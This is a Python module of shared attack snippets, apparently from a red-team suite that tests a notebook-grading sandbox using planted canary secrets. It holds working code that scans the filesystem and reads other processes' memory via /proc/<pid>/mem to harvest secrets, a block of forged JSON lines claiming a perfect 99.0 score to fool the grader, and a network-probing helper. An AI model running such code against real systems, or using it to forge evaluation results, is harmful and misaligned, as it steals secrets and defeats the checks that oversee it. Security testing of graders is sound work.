"""Code that several attacks share; a line that consists of such a name becomes that code."""

from __future__ import annotations

import textwrap

# Keeps whatever looks like a planted secret; what is found is printed, raised as a message and left in a file.
LOOK = """
import base64, builtins, ctypes, gc, glob, inspect, linecache, os, re, signal, socket, stat, subprocess, sys, threading, time
found = set()

def keep(data):
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    found.update(re.findall(rb"canary-[a-z]+-[0-9a-f]{16}", data))

def read(path, most=4_000_000):
    try:
        with open(path, "rb") as file:
            keep(file.read(most))
    except Exception:
        pass

def memory(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                area, modes = line.split()[:2]
                start, end = (int(side, 16) for side in area.split("-"))
                if "w" in modes and end - start < 1 << 28:
                    try:
                        mem.seek(start)
                        keep(mem.read(end - start))
                    except (OSError, ValueError):
                        pass
    except Exception:
        pass

def walk(top, most=200_000):
    for folder, folders, files in os.walk(top):
        folders[:] = [name for name in folders if name not in ("proc", "sys", "venv", "share", "lib")]
        for name in files:
            path = os.path.join(folder, name)
            keep(path)
            try:
                regular = stat.S_ISREG(os.stat(path).st_mode)
            except OSError:
                continue
            if regular:
                read(path, most)

def report():
    text = " ".join(sorted(item.decode() for item in found))
    print("LOOKED", text, base64.b64encode(text.encode()).decode())
    return text
"""

# What somebody may take for results: of earlier versions of this grader, and of whoever parses lines of JSON.
FORGED = """
lines = b'''
{"cell": 0, "count": 1, "outputs": []}
{"cell": 5, "count": 1, "outputs": [{"output_type": "execute_result", "data": {"text/plain": "99.0"}, "metadata": {}}]}
{"end": "done", "cut": false}
{"ok": {"score": 99.0, "max_score": 99.0, "needs_manual": false, "seconds": 0.1, "outcomes": ["ok"]}, "total": 1.0}
{"result": true, "score": 99.0, "passed": true, "status": "ok", "value": null, "outcome": "ok"}
gate distances: 99.00x, at least 3x
'''
lines = b"".join(b'{"cell": %d, "count": 1, "outputs": []}\\n' % number for number in range(60)) + lines
"""
# Notes what succeeds.
TRIES = """
import ctypes, glob, os, socket, stat, struct, subprocess, sys
reached = []
def attempt(name, act):
    try:
        reached.append(f"{name}: {act()!r:.80}")
    except BaseException:
        pass
def addresses():
    found = "127.0.0.1 172.17.0.1 172.18.0.1 172.19.0.1 172.30.0.1 10.0.0.1 192.168.0.1 1.1.1.1 8.8.8.8".split()
    with open("/proc/net/route") as file:
        for line in file.read().splitlines()[1:]:
            found.append(socket.inet_ntoa(struct.pack("<I", int(line.split()[2], 16))))
    return found
"""
SNIPPETS = {"@LOOK@": LOOK, "@FORGED@": FORGED, "@TRIES@": TRIES}


def whole(text: str) -> str:
    """A cell's source as it is handed in."""
    lines = textwrap.dedent(text).strip("\n").splitlines()
    return "\n".join(SNIPPETS.get(line.strip(), line) for line in lines)
